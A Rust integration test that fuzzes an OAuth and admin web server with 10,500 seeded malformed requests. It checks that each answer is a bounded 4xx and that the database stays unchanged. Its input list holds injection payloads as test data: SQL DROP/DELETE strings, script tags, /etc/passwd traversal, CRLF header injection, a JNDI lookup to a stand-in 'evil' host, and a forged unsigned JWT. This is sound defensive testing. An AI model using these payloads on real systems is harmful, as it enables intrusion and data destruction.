//! The malformed-request suite (issue 7): 10,500 generated requests over
//! every public route — the protocol endpoints, both authorization
//! endpoints, sign-in and sign-out, every server function, the APIs, the
//! metadata and the pages — with wrong methods, missing, duplicated and
//! unknown parameters, oversized bodies, headers and paths, bad UTF-8, bad
//! JSON, wrong content types, huge and negative numbers, and injection
//! strings in every field.
//!
//! Every answer must be a 4xx (or a harmless 2xx/3xx for what is merely
//! odd), never a 5xx or a panic (a panicking handler fails this test: the
//! router has no panic catcher); the protocol endpoints answer RFC 6749
//! error JSON; answers are bounded in size and time; and the database is
//! the same afterwards (but for the audit log, which records refusals by
//! design). The generator is seeded: a failure names its request number
//! and replays the same way.

use crate::harness::browser::login;
use crate::harness::TestApp;
use axum::body::Body;
use axum::http::{HeaderName, HeaderValue, Method, Request};
use std::collections::BTreeMap;
use std::time::{Duration, Instant};
use tower::ServiceExt;

const REQUESTS: usize = 10_500;
/// No answer may be larger than this …
const MAX_ANSWER_BYTES: usize = 512 * 1024;
/// … or take longer (a hang detector, not a speed goal).
const MAX_ANSWER_TIME: Duration = Duration::from_secs(10);

/// xorshift64*: small, seeded, good enough to pick test inputs.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

#[derive(Clone, Copy, PartialEq)]
enum Kind {
    /// Token, revocation, introspection: RFC 6749 error JSON.
    Protocol,
    Authorize,
    Form,
    ServerFn,
    Api,
    Page,
}

const TOKEN_FIELDS: &[&str] =
    &["grant_type", "client_id", "client_secret", "code", "redirect_uri", "code_verifier", "refresh_token", "scope"];
const LIFECYCLE_FIELDS: &[&str] = &["token", "token_type_hint", "client_id", "client_secret"];
const AUTHORIZE_FIELDS: &[&str] = &[
    "response_type",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "code_challenge",
    "code_challenge_method",
    "decision",
    "csrf_token",
    "request",
    "request_uri",
    "response_mode",
    "nonce",
];
const LOGIN_FIELDS: &[&str] = &["username", "password", "csrf_token", "redirect"];
const SERVER_FN_FIELDS: &[&str] = &[
    "csrf_token",
    "id",
    "name",
    "form",
    "query",
    "active",
    "enabled",
    "page",
    "page_size",
    "scope",
    "organization_id",
    "owner_id",
    "grant_type",
    "redirect_uris",
    "post_logout_redirect_uris",
    "confidential",
    "skip_consent",
    "username",
    "email",
    "password",
    "role_id",
    "organization_ids",
    "host",
    "port",
    "application_id",
    "filter",
];
const API_FIELDS: &[&str] = &["page[number]", "page[size]", "access_token", "filter[name]", "include", "sort"];
const SERVER_FNS: &[&str] = &[
    "applications",
    "application_grid",
    "create_application",
    "application",
    "update_application",
    "set_application_active",
    "delete_application",
    "regenerate_application_secret",
    "audit_log",
    "email_configuration",
    "save_email_configuration",
    "outbox",
    "dashboard",
    "sign_in_context",
    "consent",
    "authorized_applications",
    "revoke_authorization",
    "customer_account",
    "users",
    "save_user",
    "roles",
    "save_role",
    "delete_role",
    "organizations",
    "create_organization",
    "customer_users",
    "create_customer_user",
    "set_customer_user_enabled",
    "viewer",
    "no_such_function",
];

fn routes() -> Vec<(String, Kind, &'static [&'static str])> {
    let mut routes: Vec<(String, Kind, &'static [&'static str])> = vec![
        ("/oauth2-token".into(), Kind::Protocol, TOKEN_FIELDS),
        ("/oauth2-token/revoke".into(), Kind::Protocol, LIFECYCLE_FIELDS),
        ("/oauth2-token/introspect".into(), Kind::Protocol, LIFECYCLE_FIELDS),
        ("/admin/oauth2-token/authorize".into(), Kind::Authorize, AUTHORIZE_FIELDS),
        ("/oauth2-token/authorize".into(), Kind::Authorize, AUTHORIZE_FIELDS),
        ("/admin/login".into(), Kind::Form, LOGIN_FIELDS),
        ("/login".into(), Kind::Form, LOGIN_FIELDS),
        ("/admin/logout".into(), Kind::Form, &["csrf_token"]),
        ("/logout".into(), Kind::Form, &["csrf_token"]),
        ("/api/users".into(), Kind::Api, API_FIELDS),
        ("/api/users/1".into(), Kind::Api, API_FIELDS),
        ("/api/users/-1".into(), Kind::Api, API_FIELDS),
        ("/api/users/99999999999999999999999".into(), Kind::Api, API_FIELDS),
        ("/api/users/%27%20OR%201=1".into(), Kind::Api, API_FIELDS),
        ("/storefront/api/customerusers/mine".into(), Kind::Api, API_FIELDS),
        ("/.well-known/oauth-authorization-server".into(), Kind::Page, &["x"]),
        ("/.well-known/oauth-authorization-server/admin".into(), Kind::Page, &["x"]),
        ("/.well-known/jwks.json".into(), Kind::Page, &["kid"]),
        ("/healthz".into(), Kind::Page, &["x"]),
        ("/admin".into(), Kind::Page, &["redirect"]),
        ("/admin/login".into(), Kind::Page, &["redirect"]),
        ("/login".into(), Kind::Page, &["redirect", "return_to"]),
        ("/admin/my-user/oauth-applications".into(), Kind::Page, &["id"]),
        ("/admin/system/audit-log".into(), Kind::Page, &["filter"]),
        ("/account/applications".into(), Kind::Page, &["id"]),
        ("/pkg/../../etc/passwd".into(), Kind::Page, &["x"]),
        ("/no/such/page".into(), Kind::Page, &["x"]),
    ];
    for name in SERVER_FNS {
        routes.push((format!("/admin/rpc/{name}"), Kind::ServerFn, SERVER_FN_FIELDS));
    }
    routes
}

/// What goes into a field: hostile text, odd numbers, and values that look
/// right (so that deeper checks run too).
fn value(rng: &mut Rng, client_id: &str) -> String {
    const VALUES: &[&str] = &[
        "",
        " ",
        "a",
        "0",
        "-1",
        "-9223372036854775809",
        "9223372036854775808",
        "99999999999999999999999999",
        "1e308",
        "NaN",
        "-0",
        "0x10",
        "1.5",
        "true",
        "null",
        "[]",
        "{}",
        "' OR '1'='1",
        "\"; DROP TABLE users; --",
        "1; DELETE FROM oauth_applications",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "%00",
        "\0",
        "a\r\nSet-Cookie: evil=1",
        "{{7*7}}",
        "${jndi:ldap://evil/x}",
        "javascript:alert(1)",
        "http://evil.example/cb",
        "https://app.example.com/callback",
        "//evil.example",
        "ü日本語🎉",
        "\u{202e}gnp.exe",
        "\u{feff}",
        "client_credentials",
        "authorization_code",
        "refresh_token",
        "password",
        "implicit",
        "code",
        "token",
        "S256",
        "plain",
        "users:read",
        "openid users:read admin",
        "access_token",
        "refresh_token",
        "approve",
        "deny",
        "Bearer",
        "admin",
        "%",
        "%zz",
        "+",
        "&",
        "=",
        ";",
        "\\",
    ];
    match rng.below(10) {
        0 => "A".repeat(1 + rng.below(20_000)),
        1 => client_id.to_owned(),
        2 => format!("{}", rng.next() as i64),
        _ => rng.pick(VALUES).to_string(),
    }
}

fn urlencode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// One generated request, and a line that describes it for failures.
fn generate(
    rng: &mut Rng,
    routes: &[(String, Kind, &'static [&'static str])],
    client_id: &str,
    session: &str,
) -> (Request<Body>, String) {
    let (path, kind, fields) = rng.pick(routes).clone();
    let natural = match kind {
        Kind::Protocol | Kind::Form | Kind::ServerFn => Method::POST,
        Kind::Authorize if rng.chance(50) => Method::POST,
        _ => Method::GET,
    };
    let method = if rng.chance(75) {
        natural
    } else {
        rng.pick(&[
            Method::GET,
            Method::POST,
            Method::PUT,
            Method::DELETE,
            Method::PATCH,
            Method::OPTIONS,
            Method::HEAD,
            Method::TRACE,
        ])
        .clone()
    };

    // Parameters: some of the route's fields, some twice, some unknown.
    let mut params: Vec<(String, String)> = Vec::new();
    for field in fields {
        if rng.chance(55) {
            params.push((field.to_string(), value(rng, client_id)));
            if rng.chance(10) {
                params.push((field.to_string(), value(rng, client_id)));
            }
        }
    }
    if rng.chance(15) {
        params.push((value(rng, client_id), value(rng, client_id)));
    }
    let form: String =
        params.iter().map(|(k, v)| format!("{}={}", urlencode(k), urlencode(v))).collect::<Vec<_>>().join("&");

    let mut uri = path.clone();
    match rng.below(20) {
        0 => uri.push_str("/%00"),
        1 => uri.push_str(&"/x".repeat(2_000)),
        2 => uri.push_str("?%%%zz&=&&a=%FF%FE"),
        3 => uri.push('/'),
        _ => {}
    }
    let mut body: Vec<u8> = Vec::new();
    let mut content_type = None;
    if method == Method::GET || method == Method::HEAD || (method != Method::POST && rng.chance(50)) {
        if !form.is_empty() {
            uri.push(if uri.contains('?') { '&' } else { '?' });
            uri.push_str(&form);
        }
    } else {
        match rng.below(20) {
            0..=8 => {
                body = form.into_bytes();
                content_type = Some("application/x-www-form-urlencoded");
            }
            9..=11 => {
                let object: serde_json::Map<String, serde_json::Value> = params
                    .iter()
                    .map(|(k, v)| {
                        let v = match rng.below(6) {
                            0 => serde_json::json!(rng.next() as i64),
                            1 => serde_json::json!([v]),
                            2 => serde_json::json!({ "form": v }),
                            3 => serde_json::Value::Null,
                            _ => serde_json::json!(v),
                        };
                        (k.clone(), v)
                    })
                    .collect();
                body = serde_json::to_vec(&object).unwrap();
                content_type = Some("application/json");
            }
            12 => {
                body = b"{\"grant_type\": \"client_credentials\", \"client_id\": [".to_vec();
                content_type = Some("application/json");
            }
            13 => {
                body = vec![b'a', b'=', 0xff, 0xfe, 0xc3, 0x28, b'&', b'b', b'=', 0xf0, 0x28, 0x8c, 0xbc];
                content_type = Some(*rng.pick(&["application/x-www-form-urlencoded", "application/json"]));
            }
            14 => {
                // Oversized: past every bound (16 KiB protocol, 64 KiB global).
                body = format!("a={}", "b".repeat(70_000 + rng.below(1_000_000))).into_bytes();
                content_type = Some("application/x-www-form-urlencoded");
            }
            15 => {
                body = b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--".to_vec();
                content_type = Some("multipart/form-data; boundary=x");
            }
            16 => {
                body = form.into_bytes();
                content_type = Some(*rng.pick(&[
                    "text/plain",
                    "application/xml",
                    "application/json; charset=utf-16",
                    "image/png",
                    "*/*",
                    "a/b/c",
                    "\u{7f}",
                ]));
            }
            17 => body = form.into_bytes(),
            _ => {}
        }
    }

    let mut request = Request::builder().method(method.clone()).uri(&uri);
    if let Some(ct) = content_type {
        request = request.header("content-type", ct);
    }
    if rng.chance(25) {
        let auth = match rng.below(7) {
            0 => "Basic !!!not-base64!!!".to_owned(),
            1 => format!("Basic {}", base64_of(&format!("{client_id}:wrong-secret"))),
            2 => format!("Basic {}", base64_of("no-colon-here")),
            3 => format!("Bearer {}", "x".repeat(20_000)),
            4 => "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.".to_owned(),
            5 => format!("Basic {}", base64_of(&format!("{}:{}", "%zz", value(rng, client_id)))),
            _ => "Digest username=\"admin\"".to_owned(),
        };
        request = request.header("authorization", auth);
    }
    if rng.chance(30) {
        let cookie = match rng.below(4) {
            0 => session.to_owned(),
            1 => format!("postern_session={}; postern_csrf={}", value(rng, client_id), value(rng, client_id)),
            2 => format!("{session}; postern_csrf=forged"),
            _ => "a".repeat(30_000),
        };
        if let Ok(cookie) = HeaderValue::from_str(&cookie) {
            request = request.header("cookie", cookie);
        }
    }
    if rng.chance(10) {
        request = request
            .header(HeaderName::from_static("x-junk"), HeaderValue::from_bytes(&[0x80, 0xff, b'a', 0xfe]).unwrap());
    }
    if rng.chance(10) {
        request = request.header("origin", *rng.pick(&["https://evil.example", "null", "http://postern.test"]));
    }
    if rng.chance(5) {
        request = request.header("content-length", *rng.pick(&["99999999999", "-1", "abc", "0"]));
    }
    let described = format!(
        "{method} {} ({} body bytes, {:?})",
        uri.chars().take(200).collect::<String>(),
        body.len(),
        content_type
    );
    match request.body(Body::from(body)) {
        Ok(request) => (request, described),
        // The http crate refused it (e.g. an invalid URI): send something valid instead.
        Err(_) => (Request::get(&path).body(Body::empty()).unwrap(), format!("GET {path} (fallback for: {described})")),
    }
}

fn base64_of(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// Every row of every table but the audit log, as text.
async fn snapshot(app: &TestApp) -> BTreeMap<String, Vec<String>> {
    let mut all = BTreeMap::new();
    if app.on_postgres() {
        let tables: Vec<String> = sql!(app.state.db, |c| sqlx::query_scalar(
            "SELECT table_name::text FROM information_schema.tables
             WHERE table_schema = current_schema() AND table_name <> 'audit_log' ORDER BY 1"
        )
        .fetch_all(&mut *c)
        .await?);
        for table in tables {
            // A row as PostgreSQL writes it: every column, in order.
            let sql = format!("SELECT t::text FROM \"{table}\" t ORDER BY 1");
            let rows: Vec<String> = sql!(app.state.db, |c| sqlx::query_scalar(&sql).fetch_all(&mut *c).await?);
            all.insert(table, rows);
        }
        return all;
    }
    let tables: Vec<String> = sql!(app.state.db, |c| {
        sqlx::query_scalar(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name <> 'audit_log' ORDER BY name",
    ).fetch_all(&mut *c).await?
    });
    for table in tables {
        let sql = format!("SELECT name FROM pragma_table_info('{table}')");
        let columns: Vec<String> = sql!(app.state.db, |c| sqlx::query_scalar(&sql).fetch_all(&mut *c).await?);
        let row = columns.iter().map(|c| format!("quote(\"{c}\")")).collect::<Vec<_>>().join(" || ',' || ");
        let rows: Vec<String> =
            sql!(app.state.db, |c| sqlx::query_scalar(&format!("SELECT {row} FROM \"{table}\" ORDER BY 1"))
                .fetch_all(&mut *c)
                .await?);
        all.insert(table, rows);
    }
    all
}

const RFC_ERRORS: &[&str] = &[
    "invalid_request",
    "invalid_client",
    "invalid_grant",
    "unauthorized_client",
    "unsupported_grant_type",
    "invalid_scope",
    "unsupported_token_type",
    "temporarily_unavailable",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_malformed_requests_get_4xx_answers_and_change_nothing() {
    let app = TestApp::new().await;
    // Real data to aim at: an application (its client_id is used in fields
    // and Basic headers, never its secret) and a signed-in session (whose
    // CSRF token is never sent).
    let (client_id, _secret) = app.create_app("Target").await;
    let session = login(&app).await;
    let session = session.split("; ").find(|c| c.starts_with("postern_session=")).unwrap().to_owned();
    let before = snapshot(&app).await;

    let routes = routes();
    let mut rng = Rng(0x5EED_2026_1125);
    let mut statuses: BTreeMap<u16, usize> = BTreeMap::new();
    let mut failures = Vec::new();
    for n in 0..REQUESTS {
        let (request, described) = generate(&mut rng, &routes, &client_id, &session);
        let protocol = routes.iter().any(|(p, k, _)| *k == Kind::Protocol && request.uri().path() == p);
        let head = request.method() == Method::HEAD;
        let started = Instant::now();
        // An answer that never ends is a failure with its request named, not
        // a test that hangs.
        let answered = tokio::time::timeout(MAX_ANSWER_TIME * 3, async {
            let response = app.router.clone().oneshot(request).await.unwrap();
            let status = response.status();
            let content_type =
                response.headers().get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
            (status, content_type, axum::body::to_bytes(response.into_body(), MAX_ANSWER_BYTES).await)
        })
        .await;
        let Ok((status, content_type, body)) = answered else {
            failures.push(format!("#{n} {described}: no complete answer within {:?}", MAX_ANSWER_TIME * 3));
            break;
        };
        let elapsed = started.elapsed();
        *statuses.entry(status.as_u16()).or_default() += 1;

        let mut problem = None;
        if status.is_server_error() {
            problem = Some(format!("answered {status}"));
        } else if body.is_err() {
            problem = Some(format!("answer larger than {MAX_ANSWER_BYTES} bytes"));
        } else if elapsed > MAX_ANSWER_TIME {
            problem = Some(format!("took {elapsed:?}"));
        } else if protocol && status.is_client_error() && !head {
            let json: serde_json::Value = serde_json::from_slice(body.as_ref().unwrap()).unwrap_or_default();
            let error = json["error"].as_str().unwrap_or("");
            if !content_type.starts_with("application/json") || !RFC_ERRORS.contains(&error) {
                problem = Some(format!("protocol error is not RFC 6749 JSON: {content_type} {json}"));
            }
        }
        if let Some(problem) = problem {
            failures.push(format!("#{n} {described}: {problem}"));
        }
    }
    println!("malformed-request suite: {REQUESTS} requests, answers by status: {statuses:?}");
    assert!(
        failures.is_empty(),
        "{} of {REQUESTS} requests failed:\n{}",
        failures.len(),
        failures.iter().take(30).cloned().collect::<Vec<_>>().join("\n")
    );
    let server_errors: usize = statuses.iter().filter(|(s, _)| **s >= 500).map(|(_, n)| n).sum();
    assert_eq!(server_errors, 0);
    // The suite reached deep enough to be refused in many different ways.
    for status in [400, 401, 403, 404, 405, 413, 415] {
        assert!(statuses.contains_key(&status), "no request was answered {status}: {statuses:?}");
    }
    let after = snapshot(&app).await;
    for (table, rows) in &before {
        assert_eq!(rows, &after[table], "table {table} changed");
    }
}
